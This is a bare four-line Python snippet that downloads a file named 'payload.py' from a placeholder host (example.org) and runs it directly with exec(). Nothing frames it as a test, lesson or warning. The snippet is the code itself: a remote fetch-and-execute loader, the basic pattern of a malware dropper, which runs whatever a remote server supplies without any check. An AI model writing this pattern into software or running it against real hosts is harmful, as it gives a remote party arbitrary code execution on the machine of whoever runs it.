import requests

url = "http://example.org/payload.py"
exec(requests.get(url).text)
